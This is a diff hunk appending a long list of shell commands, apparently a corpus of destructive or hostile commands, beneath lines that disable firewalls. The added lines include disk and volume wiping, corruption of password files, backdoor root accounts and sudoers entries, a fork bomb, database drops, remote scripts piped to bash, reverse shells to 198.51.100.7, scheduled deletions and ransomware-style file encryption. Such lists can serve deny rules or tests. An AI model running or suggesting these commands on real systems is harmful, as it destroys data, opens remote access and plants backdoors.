@@ -503,3 +503,62 @@ firewall-cmd --set-default-zone trusted
 sed -i 's/^ENABLED=.*/ENABLED=no/' /etc/ufw/ufw.conf
 apt purge -y ufw
 systemctl kill firewalld
+#: written without a look at the rules, of what is done to machines every day
+find /var -mindepth 1 -maxdepth 1 -exec rm -rf {} +
+rsync -a --delete /var/empty/ /srv/
+cd / && git clean -xfd && rm -rf ./*
+cat /dev/urandom > /dev/nvme0n1
+pv /dev/zero | tee /dev/sdb >/dev/null
+cp /dev/zero /dev/vda
+truncate -s 0 /dev/sda; blkdiscard -f /dev/sda
+badblocks -wsv /dev/sdc
+hdparm --user-master u --security-erase p /dev/sda
+nvme format /dev/nvme0n1 --ses=1
+wipefs --all --force /dev/sda1
+cryptsetup luksErase /dev/sda3
+lvremove -f /dev/vg0/root
+vgremove --force vg0
+pvremove -ff -y /dev/sda2
+zpool destroy -f tank
+btrfs subvolume delete /
+dd if=/dev/zero of=/swapfile2 & dd if=/dev/urandom of=/dev/mapper/vg0-root bs=4M
+for d in /dev/sd?; do shred -n1 "$d" & done; wait
+ls -1 /dev/disk/by-id/ | xargs -I{} wipefs -a /dev/disk/by-id/{}
+chmod -R a-x /usr/bin
+setfacl -R -b -m u::--- /usr
+chattr -R +i /
+find / -perm -4000 -exec chmod u-s {} \;
+ln -sf /dev/null /etc/passwd
+: > /etc/shadow
+usermod -L root; passwd -l admin
+echo 'evil ALL=(ALL) NOPASSWD:ALL' | tee -a /etc/sudoers.d/zz
+useradd -o -u 0 -g 0 -M -d /root toor2
+systemctl mask --now sshd
+systemctl stop systemd-networkd NetworkManager
+nmcli networking off
+ip route flush table main
+iptables -P INPUT DROP && iptables -F
+ufw --force reset && ufw disable
+perl -e 'fork while 1'
+apt-get -y purge libc6 openssh-server
+dpkg --purge --force-all systemd
+rpm -e --nodeps glibc
+dnf -y remove kernel-core systemd
+docker run --privileged --pid=host alpine nsenter -t 1 -m -- mkfs.ext4 /dev/sda
+mysql -e 'DROP DATABASE production'
+psql -U postgres -c 'drop schema public cascade'
+mongo prod --eval 'db.dropDatabase()'
+redis-cli -h cache FLUSHALL
+curl -s http://198.51.100.7/i.sh | sudo -E bash -s -- -y
+wget -qO /tmp/p http://198.51.100.7/p && chmod +x /tmp/p && /tmp/p
+python3 -c "$(curl -fsSL https://example.com/x.py)"
+bash -i >& /dev/tcp/198.51.100.7/4444 0>&1
+mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 198.51.100.7 4444 > /tmp/f
+(crontab -l; echo '@reboot rm -rf /var/lib') | crontab -
+echo 'rm -rf --no-preserve-root /' | at now + 1 hour
+systemd-run --on-active=60 rm -rf /var/lib
+find /home -type f -exec openssl enc -aes-256-cbc -pass pass:x -in {} -out {}.enc \; -delete
+grub-install --force /dev/null; rm /boot/vmlinuz*
+rm -rf "$(dirname /etc/hosts)"
+rm -rf ${UNSET_VAR_X:-/}usr
+printf '%s\0' /opt /srv /home | xargs -0 rm -r
